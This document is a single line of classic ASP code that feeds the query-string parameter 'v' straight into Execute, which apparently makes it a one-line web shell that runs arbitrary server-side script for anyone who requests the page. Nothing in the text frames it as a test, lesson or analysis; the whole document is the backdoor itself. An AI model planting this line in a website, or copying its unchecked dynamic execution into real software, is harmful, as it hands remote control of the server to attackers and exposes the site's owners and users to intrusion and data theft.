<% Execute("x=" & Request.QueryString("v")) %>
